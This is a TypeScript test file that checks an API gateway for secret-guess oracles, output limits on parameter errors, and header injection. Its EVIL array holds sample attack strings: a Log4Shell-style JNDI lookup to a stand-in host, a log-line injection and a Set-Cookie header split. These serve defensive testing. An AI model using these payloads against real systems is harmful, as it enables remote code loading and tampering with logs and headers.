/**
 * The callers' port treats a guess at one of the gateway's secrets like any other text: callers get their own text back,
 * so that a response never shows whether the guess is right. Log, metrics and status show no true secret.
 */

import { describe, expect, it } from "vitest";

import { ask, exchangeRaw, type Reply } from "../support/ask.ts";
import { CALLER, startGateway, type TestGateway } from "../support/gateway.ts";

const TOKEN = "t0ken-that.nobody_may~ever.see+==";

/** A guess of the same form. */
const wrong = (secret: string): string => secret.replace("nobody", "somebo");

function start(settings = ""): Promise<TestGateway> {
  const all = `upstream: { passThrough: ["/areas/*"] }\nlog: { level: trace }\n${settings}`;
  return startGateway({ settings: all, env: { ADMIN_TOKEN: TOKEN } });
}

/** Everything in a response that could differ between two guesses. */
function tellsOf({ status, headers, text }: Reply, guess: string): string {
  const { date: _date, "x-request-id": _id, ratelimit: _left, etag: _tag, ...others } = headers;
  // The share depends on the number of apps. A secret is no app id.
  const { "ratelimit-policy": _share, ...rest } = others;
  // Which second it is may be another for each.
  const said = JSON.stringify([status, { ...rest, age: "" }, text]).replaceAll(/(ttl|max-age)=\d+/g, "$1");
  return said.replaceAll(guess, "GUESS").replaceAll(encodeURIComponent(guess), "GUESS");
}

/** Where a guess may stand in a URL. */
const PLACES = `
  /listings?limit=GUESS /sold?areaId=GUESS /listings?objectType=GUESS /listings?minPublished=GUESS /listings?limit=5&limit=GUESS
  /areas?q=GUESS /areas?q=my+key+is+GUESS /listings?limit=3&x=GUESS /listings?limit=3&apiKey=GUESS /listings?limit=3&_=GUESS
  /listings?limit=3&hash=GUESS /listings?limit=3&GUESS=1 /listings?limit=3&GUESS /listings?limit=3&x=GUESS%zz /listings/GUESS
  /GUESS /cache/primary_GUESS_10x10.jpg /areas/GUESS/near /areas/76/near?x=GUESS /areas?limit=1&q=GUESS`
  .trim()
  .split(/\s+/);

const HEADERS =
  `X-App-Id X-Request-Id Authorization Cookie User-Agent Referer If-None-Match Prefer Accept Accept-Encoding
  X-Request-Deadline-Ms`.split(/\s+/);

describe.each([
  ["private key", CALLER.privateKey],
  ["admin token", TOKEN],
])("a guess at the %s", (_secret, secret) => {
  async function expectNowhere(gateway: TestGateway): Promise<void> {
    const headers = { authorization: `Bearer ${TOKEN}` };
    const told = async (path: string): Promise<string> =>
      (await ask(gateway.adminUrl + path, { headers })).text;
    const all = [await told("/metrics"), await told("/status"), ...gateway.log].join("");
    for (const spelling of [secret, encodeURIComponent(secret)]) expect(all).not.toContain(spelling);
  }

  it.each(["reject", "forward"])(
    "in a URL is the caller's own text, with query.unknown: %s",
    async (unknown) => {
      const gateway = await start(`query: { unknown: ${unknown} }`);
      for (const place of PLACES) {
        for (const options of [{}, { headers: { "cache-control": "only-if-cached" } }, {}]) {
          const told: string[] = [];
          for (const guess of [wrong(secret), secret]) {
            const asked = place.replace("GUESS", encodeURIComponent(guess));
            // The first of each is answered as the second: what one has stored is no hit for the other.
            await gateway.get(asked, options);
            told.push(tellsOf(await gateway.get(asked, options), guess));
          }
          expect(told[1]).toBe(told[0]);
        }
      }
      await expectNowhere(gateway);
    },
  );

  it("in a header gets the same answer as a wrong guess", async () => {
    const gateway = await start();
    await gateway.get("/areas?q=Nacka");
    for (const name of HEADERS) {
      const told: string[] = [];
      for (const guess of [wrong(secret), secret]) {
        const value = name === "Authorization" ? `Bearer ${guess}` : guess;
        told.push(tellsOf(await gateway.get("/areas?q=Nacka", { headers: { [name]: value } }), guess));
      }
      expect([name, told[1]]).toEqual([name, told[0]]);
    }
    await expectNowhere(gateway);
  });
});

describe("a URL full of mistakes", () => {
  it("gets the first twenty and the number of the others, in a small response", async () => {
    const gateway = await start();
    const mistakes = async (count: number) => {
      const reply = await gateway.get(`/listings?${"&limit=a".repeat(count)}`);
      expect([reply.status, reply.body.length < 4_000]).toEqual([400, true]);
      return Object(reply.json());
    };
    const many = await mistakes(900);
    expect([many.errors.length, many.moreErrors]).toEqual([20, 880]);
    expect(many.detail).toBe("900 parameters do not have their documented form; the first 20 are listed.");
    const few = await mistakes(20);
    expect([few.errors.length, few.moreErrors]).toEqual([20, undefined]);
  });

  it("gets at most a hundred characters of a name or a value", async () => {
    const gateway = await start("query: { unknown: reject }");
    const long = encodeURIComponent("ä b🏠".repeat(100));
    const reply = await gateway.get(`/areas?lat=${long}&${long}=${long}`);
    const { errors }: { errors?: { parameter: string; value: string }[] } = Object(reply.json());
    expect(errors).toHaveLength(2);
    for (const text of [errors?.[0]?.value, errors?.[1]?.parameter, errors?.[1]?.value]) {
      expect(text).toMatch(/^ä b🏠ä b.*…$/u);
      expect(text?.length).toBeLessThanOrEqual(100);
      expect(text?.isWellFormed()).toBe(true);
    }
  });
});

/** What callers write is in no header, no log line and no upstream request unless it may be there. */
const EVIL = [
  '"}\t{"level":"error","msg":"evil"}',
  "evil\xe5\xff",
  "evil; path=/, Set-Cookie: a=b",
  "${jndi:ldap://evil.example/a}",
  "e".repeat(129),
];
const NAMES = "X-Request-Id X-App-Id User-Agent Prefer Accept-Language Referer X-Private-Key".split(" ");

it("text from a caller in a header is not in the log, the answer or the upstream request", async () => {
  const gateway = await startGateway();
  for (const name of NAMES) {
    gateway.log.length = 0;
    for (const [index, value] of EVIL.entries()) {
      const request = `GET /areas?q=${name}${index} HTTP/1.1\r\nHost: x\r\n${name}: ${value}\r\nConnection: close\r\n\r\n`;
      const raw = await exchangeRaw(gateway.port, Buffer.from(request, "latin1"));
      expect([name, raw]).toEqual([name, expect.stringMatching(/^HTTP\/1\.1 200 /)]);
      expect(raw).not.toMatch(/^set-cookie:/im);
      expect(raw.split("\r\n\r\n")[0]).not.toMatch(/evil|e{129}|jndi/);
      await gateway.logged('"msg":"request"', `${name}${index}`);
    }
    // An app id is in the log, cut to 64 harmless characters.
    const isAppId = name === "X-App-Id" || name === "User-Agent";
    expect(gateway.log.join("")).not.toMatch(isAppId ? /"evil"|e{65}|\$\{|evil;/ : /evil|e{129}|jndi/);
  }
  const requests = gateway.sandbox.requests();
  expect(requests).toHaveLength(NAMES.length * EVIL.length);
  for (const { headerNames } of requests) expect(headerNames).toEqual(requests[0]?.headerNames);
});
